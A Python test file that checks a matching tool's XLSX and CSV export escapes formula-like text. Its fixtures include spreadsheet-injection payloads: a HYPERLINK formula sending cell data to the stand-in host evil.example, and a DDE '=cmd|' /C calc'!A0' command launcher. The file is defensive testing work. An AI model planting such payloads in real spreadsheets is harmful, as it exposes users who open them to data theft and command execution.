"""Record text that starts like a spreadsheet formula (= + - @) never becomes a formula in an
export: a need titled `=HYPERLINK(...)` or `=cmd|' /C calc'!A0` must open as text."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

from techmatch.matcher.batch.export import COLUMNS, write_csv
from techmatch.xlsx import Sheet, write_sheets

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=1+1", "=cmd|' /C calc'!A0"]


def test_xlsx_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_sheets(path, [Sheet("需求", ["标题", "分"], [[text, 0.5] for text in FORMULAS])])
    sheet = openpyxl.load_workbook(path)["需求"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS
    assert {c.data_type for c in cells} == {"s"}  # never "f": Excel would evaluate it
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [0.5] * len(FORMULAS)


def test_batch_csv_quotes_formula_like_text(tmp_path: Path) -> None:
    """Excel evaluates a CSV cell starting with = + - @ (CSV has no text type): such text is
    written with a leading apostrophe, numbers (a negative score too) stay numbers."""
    row = {name: "" for name, _ in COLUMNS} | {
        "need_id": "N1", "need_title": FORMULAS[0], "enterprise": "+86 苏州某公司",
        "kind": "achievement", "need_status": "open", "rank": 1, "candidate_id": "A1",
        "candidate_name": "-40℃低温电池", "score": -0.25, "confidence": 0.5,
        "routed_to_staff": False, "reason": "@SUM(1+1)*cmd"}
    path = tmp_path / "out.csv"
    write_csv([row], path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        header, values = list(csv.reader(handle))
    got = dict(zip(header, values, strict=True))
    assert got["需求标题"] == "'" + FORMULAS[0]
    assert got["企业"] == "'+86 苏州某公司"
    assert got["候选名称"] == "'-40℃低温电池"
    assert got["匹配理由"] == "'@SUM(1+1)*cmd"
    assert (got["需求编号"], got["得分"], got["置信度"]) == ("N1", "-0.25", "0.5")
